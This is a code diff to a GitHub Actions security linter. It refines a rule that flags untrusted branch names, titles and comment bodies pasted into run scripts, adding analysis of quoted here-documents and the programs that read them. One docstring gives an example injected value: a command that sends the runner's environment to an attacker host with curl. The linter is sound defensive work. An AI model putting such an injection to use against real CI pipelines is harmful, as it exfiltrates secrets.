@@ -5,9 +5,11 @@ artifacts."""
 from __future__ import annotations
 
 import re
+from bisect import bisect_right
 from collections.abc import Iterator
 
 from sandkit.lazy_regex import lazy
+from sandkit.lint.facts.run_scripts import REDIRECT, HereDoc, program, script_lines, segment_at, segments, structure
 from sandkit.lint.facts.workflows import Job, jobs, secret_refs, triggers, workflow
 from sandkit.lint.kinds import ACTION, WORKFLOW
 from sandkit.lint.model import Hit
@@ -28,6 +30,26 @@ _OUTSIDER_TEXT = lazy(
     r"pull_requests\s*\.\s*[^.\s]+\s*\.\s*head\s*\.\s*ref)"
     r")\b|github\s*\.\s*head_ref\b"
 )
+#: Of those, the values that are one line: branch names (git refuses control characters in a ref
+#: name, a line break among them) and the ``owner:branch`` label. Titles are not: GitHub's API
+#: accepts a line break in an issue's or pull request's title.
+_ONE_LINE = lazy(
+    r"github\s*\.\s*event\s*\.\s*(?:"
+    r"pull_request\s*\.\s*head\s*\.\s*(?:ref|label|repo\s*\.\s*default_branch)|"
+    r"workflow_run\s*\.\s*(?:head_branch|pull_requests\s*\.\s*[^.\s]+\s*\.\s*head\s*\.\s*ref)"
+    r")|github\s*\.\s*head_ref"
+)
+#: Programs that take a here-document as text, not as code, and pass it on or post it: the
+#: document's text reaches no shell or interpreter through them.
+_TEXT_READERS = frozenset(
+    {"cat", "tee", "gh", "jq", "base64", "tr", "wc", "sort", "head", "tail", "cut", "uniq", "fold", "column"}
+    | {"xxd", "rev", "gzip", "echo", "printf"}
+)
+#: Files a here-document written to is code another step runs (``cat <<'EOF' > build.sh``).
+_SCRIPT_FILE = lazy(
+    r"(?i)\.(?:sh|bash|zsh|ksh|fish|py|js|mjs|cjs|ts|rb|pl|php|ps1|psm1|bat|cmd|lua|groovy|mk)$|"
+    r"(?:^|/)(?:makefile|justfile|dockerfile|containerfile|\.envrc|\.bashrc|\.bash_profile|\.profile|\.zshrc)$"
+)
 _SCRIPT_ACTIONS = ("actions/github-script",)
 #: Downloading the triggering run's artifacts: the official action given its run id, the
 #: community action, ``gh run download`` or github-script's artifact API.
@@ -35,17 +57,19 @@ _DOWNLOAD_ACTIONS = ("actions/download-artifact", "dawidd6/action-download-artif
 _RUN_ARTIFACT = lazy(r"gh\s+run\s+download|listWorkflowRunArtifacts|downloadArtifact|/artifacts/[^\s]*/zip")
 
 
-def _scripts(file: SourceFile) -> Iterator[PStr]:
-    """``run:`` strings and actions/github-script ``script:`` inputs."""
+def _scripts(file: SourceFile) -> Iterator[tuple[PStr, bool]]:
+    """``run:`` strings and actions/github-script ``script:`` inputs, and whether each is a shell
+    script (a ``run:`` with no ``shell:``, or bash or sh)."""
     for node in file.mappings():
         run = node.get("run")
         if isinstance(run, PStr):
-            yield run
+            shell = node.get("shell")
+            yield run, shell is None or (isinstance(shell, str) and shell.split()[:1] in (["bash"], ["sh"]))
         uses, with_ = node.get("uses"), node.get("with")
         if isinstance(uses, str) and uses.lower().startswith(_SCRIPT_ACTIONS) and isinstance(with_, PMap):
             script = with_.get("script")
             if isinstance(script, PStr):
-                yield script
+                yield script, False
 
 
 @rule(
@@ -63,7 +87,12 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
     body, a review's body, commit messages and author names, a branch name
     (`github.head_ref`, `pull_request.head.ref`, workflow_run's `head_branch`) and wiki
     page names, in a `run:` step or an actions/github-script `script:`. The expression is
-    replaced by its text before the shell (or JavaScript) reads the script.
+    replaced by its text before the shell (or JavaScript) reads the script. A branch name in the
+    body of a quoted here-document (`cat <<'EOF' > notes.md`, `--body "$(cat <<'EOF'`) given only
+    to commands that read it as text (cat, tee, gh, jq ...; no shell, interpreter, `eval`,
+    `envsubst` or script file) is info: a branch name holds no line break, and bash expands
+    nothing there. Titles, bodies and commit messages stay: they may hold a line equal to the
+    delimiter, and the lines after it run.
 
     Why:
     A comment or branch name such as `"; curl -d "$(env)" https://attacker.example.com #`
@@ -74,14 +103,87 @@ def untrusted_text_in_script(file: SourceFile) -> Iterator[Hit]:
     Pass the value through the environment (`env: {BODY: ${{ github.event.comment.body }}}`)
     and use `"$BODY"` in the script, quoted.
     """
-    for script in _scripts(file):
+    for script, shell in _scripts(file):
         if "${{" not in script:
             continue
+        bodies = _text_bodies(script) if shell and "<<" in script else []
+        starts = [start for start, _, _ in bodies]
+        opened_by: dict[tuple[int, int], bool] = {}  # here-document -> a value of many lines met in it
         for match in _EXPRESSION.finditer(script):
-            named = _OUTSIDER_TEXT.search(match.group(1))
-            if named is not None:
-                text = " ".join(named.group(0).split())
-                yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")
+            named = list(_OUTSIDER_TEXT.finditer(match.group(1)))
+            if not named:
+                continue
+            text = " ".join(named[0].group(0).split())
+            where = bisect_right(starts, match.start()) - 1
+            doc = bodies[where][2] if where >= 0 and match.start() < bodies[where][1] else None
+            if doc is not None:
+                key = (doc.start, doc.at)
+                one_line = all(_ONE_LINE.fullmatch(n.group(0)) for n in named)
+                if one_line and not opened_by.get(key):
+                    yield Hit(
+                        file.str_pos(script, match.start()),
+                        f"{text} is pasted into a quoted here-document, as text",
+                        severity="info",
+                        why="a branch name holds no line break, and bash expands nothing in a quoted "
+                        "here-document's body; only a name equal to the delimiter ends it early",
+                    )
+                    continue
+                opened_by[key] = opened_by.get(key, False) or not one_line
+            yield Hit(file.str_pos(script, match.start()), f"{text} is pasted into a script as code")
+
+
+def _text_bodies(script: str) -> list[tuple[int, int, HereDoc]]:
+    """(start, end, here-document) of each body line of a quoted here-document whose text goes
+    only to commands that read it as text, in order."""
+    found: list[tuple[int, int, HereDoc]] = []
+    as_text: dict[tuple[int, int], bool] = {}
+    for line in script_lines(script):
+        doc = line.heredoc
+        if doc is None or not doc.quoted:
+            continue
+        key = (doc.start, doc.at)
+        if key not in as_text:
+            as_text[key] = _read_as_text(doc)
+        if as_text[key]:
+            found.append((line.start, line.start + len(line.text), doc))
+    return found
+
+
+def _read_as_text(doc: HereDoc) -> bool:
+    """Whether a here-document's text goes only to commands that read it as text (``cat``,
+    ``tee``, ``gh``, ``jq`` ...), and into no file that is a script: not to a shell or an
+    interpreter (``bash <<'EOF'``, ``cat <<'EOF' | sh``, ``python - <<'EOF'``, ``ssh host``), nor
+    through ``eval "$(cat <<'EOF'``."""
+    line = doc.line
+    shell = structure(line)
+    parts = segments(shell)
+    index = segment_at(parts, doc.at)
+    segment = parts[index]
+    opened = line.rfind("$(", segment.start, doc.at)
+    if opened >= 0 and ")" not in line[opened : doc.at]:
+        # ``--body "$(cat <<'EOF'``: the command inside the substitution, and the one it is an argument of
+        outer = program(line[segment.start : opened])  # "" for an assignment, ``BODY=$(cat <<'EOF'``
+        readers = [outer, program(line[opened + 2 : doc.at])] if outer else [program(line[opened + 2 : doc.at])]
+    else:
+        readers = [program(line[segment.start : doc.at])]
+    if any(name not in _TEXT_READERS for name in readers):
+        return False
+    first = index
+    while True:
+        text = line[segment.start : segment.end]
+        if index != first and program(text) not in _TEXT_READERS:
+            return False
+        targets = [
+            line[r.start(3) : r.end(3)] for r in REDIRECT.finditer(shell, segment.start, segment.end) if r.group(3)
+        ]
+        if program(text) == "tee":
+            targets += [w for w in text.split()[1:] if not w.startswith(("-", "<", ">"))]
+        if any(_SCRIPT_FILE.search(t.strip("\"'")) for t in targets):
+            return False
+        if not (segment.piped and index + 1 < len(parts)):
+            return True
+        index += 1
+        segment = parts[index]
 
 
 def _downloads_trigger_artifact(step: PMap) -> PStr | None:
